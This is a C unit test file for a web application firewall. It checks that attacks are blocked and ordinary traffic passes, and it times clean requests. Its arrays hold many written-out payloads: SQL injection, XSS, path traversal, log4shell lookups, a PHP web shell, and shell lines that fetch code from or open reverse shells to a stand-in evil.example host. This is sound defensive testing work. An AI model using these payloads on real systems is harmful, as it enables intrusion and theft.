/* SPDX-License-Identifier: BSD-3-Clause
 * The demonstration rules of scripts/waf-rules.json: attacks are blocked, ordinary traffic
 * passes, and what a clean request costs is printed.
 */
#include "waf/waf_test_help.h"

#include <time.h>

static const char *const attack_values[] = {
    /* SQL injection */
    "1' OR '1'='1",
    "' or 1=1--",
    "' or 1=1#",
    "admin'--",
    "admin' #",
    "x' and sleep(5) and 'a'='a",
    "1') or ('1'='1",
    "1\" or \"1\"=\"1",
    "'||'1'='1",
    "' or true--",
    "1' and 1=(select count(*) from users)--",
    "-1 union select 1,2,3",
    "-1 UNION ALL SELECT null,null,version()",
    "1/**/union/**/select/**/password/**/from/**/users",
    "1 uNiOn(sElEcT(1),2)",
    "1; DROP TABLE users",
    "1';drop/**/table members;--",
    "1;waitfor delay '0:0:5'--",
    "1 and sleep(10)",
    "benchmark(1000000,md5(1))",
    "1 and extractvalue(1,concat(0x7e,version()))",
    "select table_name from information_schema.tables",
    "1' into outfile '/var/www/x.php'",
    "load_file('/etc/passwd')",
    "1;exec xp_cmdshell('dir')",
    "1 order by 10--",
    /* cross-site scripting */
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "\"><svg onload=alert`1`>",
    "javascript:alert(document.cookie)",
    "<iframe src=\"javascript:alert(1)\">",
    "<body onload=alert(1)>",
    "\" onmouseover=\"alert(1)",
    "' autofocus onfocus=alert(1) x='",
    "<details open ontoggle=alert(1)>",
    "data:text/html,<script>alert(1)</script>",
    "eval(atob('YWxlcnQoMSk='))",
    "<object data=x>",
    "document.cookie;",
    /* traversal */
    "../../../../etc/passwd",
    "..\\..\\..\\windows\\win.ini",
    "....//....//etc/passwd",
    "/etc/shadow",
    "file=../../web-inf/web.xml",
    "..;/..;/manager",
    "/proc/self/environ",
    "c:\\windows\\system32\\drivers\\etc\\hosts",
    /* commands */
    ";cat /etc/passwd",
    "| cat /etc/hosts",
    "127.0.0.1; ls -la",
    "127.0.0.1 && whoami",
    "`id`",
    "$(id)",
    "$(curl http://evil.example/x.sh)",
    ";wget http://evil.example/a -O /tmp/a",
    "a|nc evil.example 4444",
    "a;nc -e /bin/sh 10.0.0.1 4444",
    "x|dig evil.example",
    ";ls /",
    "|id",
    ";cat${IFS}/etc/passwd",
    ";sleep 5",
    "() { :;}; /bin/bash -c id",
    "bash -i >& /dev/tcp/10.0.0.1/4444",
    ";python3 -c 'import os'",
    "1;ping -c 3 evil.example",
    /* log4shell */
    "${jndi:ldap://evil.example/a}",
    "${${lower:j}ndi:ldap://evil.example/a}",
    "${${::-j}${::-n}${::-d}${::-i}:rmi://evil.example/a}",
    "${env:AWS_SECRET_ACCESS_KEY}",
    /* PHP, remote files, templates */
    "<?php system($_GET['c']); ?>",
    "<?=`id`?>",
    "php://filter/convert.base64-encode/resource=index.php",
    "phar://x.phar/a",
    "expect://id",
    "system('id')",
    "eval($_POST[x])",
    "phpinfo()",
    "http://evil.example/shell.php",
    "https://evil.example/r57.txt?",
    "O:8:\"Evil_Obj\":1:{s:3:\"cmd\";s:2:\"id\";}",
};

/* In the query: decoded by the server, so not percent-escaped here means escaped by to_query. */
static const char *const uri_only_attacks[] = {
    "/cgi-bin/../../../../etc/passwd",
    "/%2e%2e/%2e%2e/%2e%2e/etc/passwd",
    "/..%2f..%2f..%2fetc%2fpasswd",
    "/..%252f..%252f..%252fetc%252fpasswd",
    "/static/..%c0%af..%c0%afetc/passwd",
    "/.git/config",
    "/.env",
    "/app/.ssh/id_rsa",
    "/?1'+or+1=1--",
    "/?id=1%27%20or%20%271%27=%271",
    "/?id=1+union+select+1,2",
    "/?q=%3Cscript%3Ealert(1)%3C/script%3E",
    "/index.php/<script>alert(1)</script>",
    "/?u=%u003cscript&x=<svg/onload=alert(1)>",
    "/?__proto__[admin]=1",
    "/?url=http://169.254.169.254/latest/meta-data/",
    "/?q={{7*7}}",
    "/?page=php://input",
    "/?x=$%7Bjndi:ldap://a.example/x%7D",
};

static const char *const clean_values[] = {
    "O'Brien",
    "D'Angelo and sons",
    "it's 5 o'clock or later",
    "Rock 'n' roll and jazz",
    "select your union option",
    "the union will select a new leader from its members",
    "trade union, select committee",
    "Please select one from the list",
    "drop the table off at my place",
    "I need to update the set; drop me a line",
    "insert into the slot and turn",
    "create table reservations for two",
    "sleep (at least 8 hours)",
    "1 + 1 = 2",
    "a < b and b > c",
    "5 > 3 or 2 < 4",
    "if x=1 or y=2 then stop",
    "C++ & C# developers",
    "AT&T; cats and dogs",
    "salt & pepper | vinegar",
    "cat; dog; bird",
    "50% off; order by Friday",
    "100%",
    "name@example.com",
    "+49 (0)30 1234-5678",
    "https://example.com/path?a=1&b=2",
    "http://example.org/",
    "https://shop.example/products/blue-shoes.html",
    "\"quoted text\" and 'more'",
    "\"Alice\" or \"Bob\"",
    "He said \"hello\" and left",
    "Dear Sir -- thank you",
    "# heading\n\n- item one\n- item two\n",
    "line one\r\nline two\r\nfind more below\r\n",
    "Order #1234 -- ready",
    "<3 you",
    "<john@example.com>",
    "x <- 5; y <- 6",
    "The script of the play: act one",
    "on line = offline",
    "<b>bold</b> and <em>emphasis</em>",
    "<p class=\"intro\">Hello</p>",
    "java script tutorial",
    "document the cookie policy",
    "data: text and images",
    "../images/logo.png",
    "see section 3.1.../appendix",
    "and so on... or not",
    "etc, etc",
    "/home/user/documents",
    "group/hosts etc/misc",
    "system (see manual)",
    "exec summary",
    "php developer wanted",
    "id=5; name=test",
    "price: ${amount}",
    "{{ user.name }}",
    "$5 or $10",
    "`code` and `more code`",
    "JSON {\"a\": 1, \"b\": [1,2,3]}",
    "{\"query\":\"{ user(id: 1) { name } }\"}",
    "4 (four) items",
    "Gr\303\274\303\237e aus M\303\274nchen",
    "\xe6\x97\xa5\xe6\x9c\xac\xe8\xaa\x9e\xe3\x81\xae\xe3\x83\x86\xe3\x82\xb9\xe3\x83\x88",
    "l'amour ou la haine",
    "l'eau and l'air",
    "McDonald's and Wendy's is open",
    "the '90s and the '80s",
    "Is it 'a' or 'b'?",
    "who's in or out",
    "(builtin) or defined in the manual",
    "the default `and' condition between tests",
    "'ls' and output is a terminal",
    "(mostly) and like new",
    "the hosts are in /etc/hosts and /etc/issue",
    "`rdma_rxe` or `siw` and friends",
    "2024-05-06T07:08:09Z",
    "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJl",
    "aGVsbG8gd29ybGQ+Lz8=",
    "550e8400-e29b-41d4-a716-446655440000",
};

static const char *const clean_targets[] = {
    "/",
    "/index.html",
    "/favicon.ico?v=2",
    "/search?q=select+your+union+option&lang=en",
    "/search?q=O%27Brien&page=2",
    "/search?q=cats+and+dogs&sort=price&order=asc",
    "/a/b/../c",
    "/static/js/app.4f3a2b.js",
    "/img/photo%20of%20me.jpg",
    "/?utm_source=news&utm_medium=email&utm_campaign=spring%20sale",
    "/oauth?redirect_uri=https%3A%2F%2Fapp.example%2Fcallback&state=xyz%3D%3D",
    "/api/v1/items?filter[name]=x&filter[size]=5&sort=-date",
    "/wiki/C%2B%2B_(language)",
    "/maps/@52.52,13.405,12z/data=!3m1!4b1",
    "/?a=1&id=5&ls=2&cat=7",
    "/?q=100%25&p=a%26b",
    "/%E6%97%A5%E6%9C%AC",
    "/?q=1%2B1%3D2",
    "/?time=12:30&tz=+02:00",
    "/product/5?ref=home#top",
    "/?next=/account/settings?tab=1",
};

/* Escape everything but letters and digits, as a browser's form does at its strictest. */
static size_t escape(const char *value, char *out, size_t cap)
{
    static const char digits[] = "0123456789ABCDEF";
    size_t n = 0;
    for (const uint8_t *c = (const uint8_t *)value; *c && n + 4 < cap; c++) {
        bool plain = (*c >= '0' && *c <= '9') || ((*c | 0x20) >= 'a' && (*c | 0x20) <= 'z');
        if (plain) {
            out[n++] = (char)*c;
        } else if (*c == ' ') {
            out[n++] = '+';
        } else {
            out[n++] = '%';
            out[n++] = digits[*c >> 4];
            out[n++] = digits[*c & 15];
        }
    }
    out[n] = '\0';
    return n;
}

static struct waf_rig rig;
static unsigned rule_count;

static struct waf_said said_query(const char *value)
{
    char target[2048] = "/page?name=";
    (void)escape(value, target + strlen(target), sizeof target - strlen(target));
    struct head_view head = head_make(target, NULL, 0);
    return rig_head(&rig, &head);
}

static struct waf_said said_form(const char *value)
{
    char body[2048] = "first=1&comment=";
    (void)escape(value, body + strlen(body), sizeof body - strlen(body));
    return rig_body(&rig, "application/x-www-form-urlencoded", span_from_string(body), 0);
}

static struct waf_said said_target(const char *target)
{
    struct head_view head = head_make(target, NULL, 0);
    return rig_head(&rig, &head);
}

static struct waf_said said_field(const char *name, const char *value)
{
    struct field field = field_make(name, value);
    struct head_view head = head_make("/", &field, 1);
    return rig_head(&rig, &head);
}

static unsigned misses;

static void expect(enum waf_verdict verdict, struct waf_said said, const char *where,
                   const char *value)
{
    if (said.verdict == verdict)
        return;
    misses++;
    print_error("%s %s (rule %u): %s\n", where, verdict == WAF_BLOCK ? "not blocked" : "blocked",
                said.rule_id, value);
}

static void attacks_are_blocked(void **state)
{
    misses = 0;
    for (unsigned i = 0; i < TG_ARRAY_LEN(attack_values); i++) {
        const char *value = attack_values[i];
        expect(WAF_BLOCK, said_query(value), "query", value);
        expect(WAF_BLOCK, said_form(value), "form", value);
        expect(WAF_BLOCK, said_field("X-Search", value), "header", value);
        expect(WAF_BLOCK, rig_body(&rig, "text/plain", span_from_string(value), 0), "raw body",
               value);
    }
    for (unsigned i = 0; i < TG_ARRAY_LEN(uri_only_attacks); i++)
        expect(WAF_BLOCK, said_target(uri_only_attacks[i]), "target", uri_only_attacks[i]);
    assert_int_equal(misses, 0);
}

static void clean_values_pass(void **state)
{
    misses = 0;
    for (unsigned i = 0; i < TG_ARRAY_LEN(clean_values); i++) {
        const char *value = clean_values[i];
        expect(WAF_PASS, said_query(value), "query", value);
        expect(WAF_PASS, said_form(value), "form", value);
        expect(WAF_PASS, rig_body(&rig, "text/plain", span_from_string(value), 0), "raw body",
               value);
        expect(WAF_PASS, said_field("X-Note", value), "header", value);
    }
    for (unsigned i = 0; i < TG_ARRAY_LEN(clean_targets); i++)
        expect(WAF_PASS, said_target(clean_targets[i]), "target", clean_targets[i]);
    assert_int_equal(misses, 0);
}

static void attack_tools_are_known(void **state)
{
    static const char *const tools[] = {"sqlmap/1.7.2#stable (https://sqlmap.org)",
                                        "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None)",
                                        "Mozilla/5.0 zgrab/0.x",
                                        "WPScan v3.8.22 (https://wpscan.com)",
                                        "Nuclei - Open-source project",
                                        "gobuster/3.1.0"};
    for (unsigned i = 0; i < TG_ARRAY_LEN(tools); i++) {
        struct waf_said said = said_field("User-Agent", tools[i]);
        assert_int_equal(said.verdict, WAF_BLOCK);
        assert_int_equal(said.where, WAF_IN_USER_AGENT);
        assert_int_equal(said_field("X-Other", tools[i]).verdict, WAF_PASS);
    }
}

/* What browsers and common clients send. */
static const struct field chrome[] = {
    {SPAN_LITERAL("Host"), SPAN_LITERAL("www.example.com")},
    {SPAN_LITERAL("Connection"), SPAN_LITERAL("keep-alive")},
    {SPAN_LITERAL("Cache-Control"), SPAN_LITERAL("max-age=0")},
    {SPAN_LITERAL("sec-ch-ua"),
     SPAN_LITERAL("\"Google Chrome\";v=\"119\", \"Chromium\";v=\"119\", \"Not?A_Brand\";v=\"24\"")},
    {SPAN_LITERAL("sec-ch-ua-mobile"), SPAN_LITERAL("?0")},
    {SPAN_LITERAL("sec-ch-ua-platform"), SPAN_LITERAL("\"Windows\"")},
    {SPAN_LITERAL("Upgrade-Insecure-Requests"), SPAN_LITERAL("1")},
    {SPAN_LITERAL("User-Agent"),
     SPAN_LITERAL(
         "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
         "Chrome/119.0.0.0 Safari/537.36")},
    {SPAN_LITERAL("Accept"),
     SPAN_LITERAL("text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,"
                  "image/apng,*/*;q=0.8,application/signed-exchange;v=b3;q=0.7")},
    {SPAN_LITERAL("Sec-Fetch-Site"), SPAN_LITERAL("same-origin")},
    {SPAN_LITERAL("Referer"),
     SPAN_LITERAL("https://www.example.com/search?q=O%27Brien+and+sons&page=2&sort=price%2Casc")},
    {SPAN_LITERAL("Accept-Encoding"), SPAN_LITERAL("gzip, deflate, br")},
    {SPAN_LITERAL("Accept-Language"), SPAN_LITERAL("de-DE,de;q=0.9,en-US;q=0.8,en;q=0.7")},
    {SPAN_LITERAL("If-None-Match"), SPAN_LITERAL("W/\"3f80f-1b6-3e1cb03b\"")},
    {SPAN_LITERAL("Cookie"),
     SPAN_LITERAL("_ga=GA1.2.1234567890.1699999999; session=eyJ1IjoxfQ.ZVx; id=5; cat=7; "
                  "consent=%7B%22ads%22%3Afalse%2C%22stats%22%3Atrue%7D; theme=dark")},
};
static const struct field other_clients[][4] = {
    {{SPAN_LITERAL("User-Agent"), SPAN_LITERAL("curl/7.88.1")},
     {SPAN_LITERAL("Accept"), SPAN_LITERAL("*/*")}},
    {{SPAN_LITERAL("User-Agent"),
      SPAN_LITERAL("Mozilla/5.0 (X11; Linux x86_64; rv:120.0) Gecko/20100101 Firefox/120.0")},
     {SPAN_LITERAL("DNT"), SPAN_LITERAL("1")}},
    {{SPAN_LITERAL("User-Agent"),
      SPAN_LITERAL("Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)")},
     {SPAN_LITERAL("From"), SPAN_LITERAL("googlebot(at)googlebot.com")}},
    {{SPAN_LITERAL("User-Agent"), SPAN_LITERAL("python-requests/2.31.0")},
     {SPAN_LITERAL("Authorization"), SPAN_LITERAL("Basic dXNlcjpwYXNzd29yZC8rKys=")}},
    {{SPAN_LITERAL("User-Agent"), SPAN_LITERAL("Wget/1.21.3")},
     {SPAN_LITERAL("Range"), SPAN_LITERAL("bytes=0-499, -500")}},
    {{SPAN_LITERAL("Authorization"),
      SPAN_LITERAL("Digest username=\"a\", realm=\"b\", nonce=\"c==\", uri=\"/\"")},
     {SPAN_LITERAL("Forwarded"), SPAN_LITERAL("for=192.0.2.60;proto=http;by=203.0.113.43")}},
    {{SPAN_LITERAL("Content-Type"),
      SPAN_LITERAL("multipart/form-data; boundary=----WebKitFormBoundary7MA4YWxk")},
     {SPAN_LITERAL("Content-Security-Policy"),
      SPAN_LITERAL("script-src 'self' data:; object-src 'none'")}},
    {{SPAN_LITERAL("Via"), SPAN_LITERAL("1.1 edge1 (tidegate), 1.0 fred")},
     {SPAN_LITERAL("traceparent"),
      SPAN_LITERAL("00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01")}},
};

static void ordinary_clients_pass(void **state)
{
    misses = 0;
    struct head_view head = head_make("/shop/item?id=5&color=blue", chrome, TG_ARRAY_LEN(chrome));
    expect(WAF_PASS, rig_head(&rig, &head), "client", "chrome");
    for (unsigned i = 0; i < TG_ARRAY_LEN(other_clients); i++) {
        head = head_make("/", other_clients[i], 2);
        expect(WAF_PASS, rig_head(&rig, &head), "client",
               (const char *)other_clients[i][0].value.data);
    }
    assert_int_equal(misses, 0);
}

/* Every attack in each cookie position; a cookie's own separators are no attack. */
static void cookies_are_inspected(void **state)
{
    char cookie[256];
    snprintf(cookie, sizeof cookie, "a=1; b=%s; c=2", "1%27%20or%201=1--");
    struct waf_said said = said_field("cookie", cookie);
    assert_int_equal(said.verdict, WAF_BLOCK);
    assert_int_equal(said.where, WAF_IN_COOKIE);
    assert_int_equal(said_field("Cookie", "a=1; id; ls; cat=5; wget=http").verdict, WAF_PASS);
}

static void double_encoding_is_only_noted(void **state)
{
    struct head_view head = head_make("/a?b=%2527", NULL, 0);
    struct waf_said said = rig_head(&rig, &head);
    assert_int_equal(said.verdict, WAF_PASS);
    assert_int_equal(said.rule_id, 1901);
}

static uint64_t cpu_ns(void)
{
    struct timespec t;
    clock_gettime(CLOCK_PROCESS_CPUTIME_ID, &t);
    return (uint64_t)t.tv_sec * 1000000000u + (uint64_t)t.tv_nsec;
}

/* Printed, never judged: the machine is shared. */
static void cost_is_measured(void **state)
{
    struct head_view big = head_make("/shop/item?id=5&color=blue", chrome, TG_ARRAY_LEN(chrome));
    struct head_view small = head_make("/", other_clients[0], 2);
    static char form[65536];
    size_t len = 0;
    for (unsigned i = 0; len + 128 < sizeof form; i++)
        len += (size_t)snprintf(form + len, sizeof form - len,
                                "field%u=some+ordinary+text+of+a+form%%2C+%u+words&", i, i);
    unsigned rounds = 2000;
    uint64_t a = cpu_ns();
    for (unsigned i = 0; i < rounds; i++)
        assert_int_equal(rig_head(&rig, &small).verdict, WAF_PASS);
    uint64_t b = cpu_ns();
    for (unsigned i = 0; i < rounds; i++)
        assert_int_equal(rig_head(&rig, &big).verdict, WAF_PASS);
    uint64_t c = cpu_ns();
    for (unsigned i = 0; i < 20; i++)
        assert_int_equal(
            rig_body(&rig, "application/x-www-form-urlencoded", span_make(form, len), 0).verdict,
            WAF_PASS);
    uint64_t d = cpu_ns();
    print_message("waf cost, %u rules: curl GET %.2f us, Chrome GET %.2f us, %zu-byte form %.0f us "
                  "(%.0f MB/s); blob %zu bytes\n",
                  rule_count, (double)(b - a) / rounds / 1e3, (double)(c - b) / rounds / 1e3, len,
                  (double)(d - c) / 20 / 1e3, (double)len * 20 * 1e3 / (double)(d - c),
                  rig.blob_len);
}

static int set_up(void **state)
{
    rig = rig_open_json(4, &rule_count);
    return 0;
}

static int tear_down(void **state)
{
    rig_close(&rig);
    return 0;
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(attacks_are_blocked),    cmocka_unit_test(clean_values_pass),
        cmocka_unit_test(attack_tools_are_known), cmocka_unit_test(ordinary_clients_pass),
        cmocka_unit_test(cookies_are_inspected),  cmocka_unit_test(double_encoding_is_only_noted),
        cmocka_unit_test(cost_is_measured),
    };
    return cmocka_run_group_tests_name("waf_rules", tests, set_up, tear_down);
}
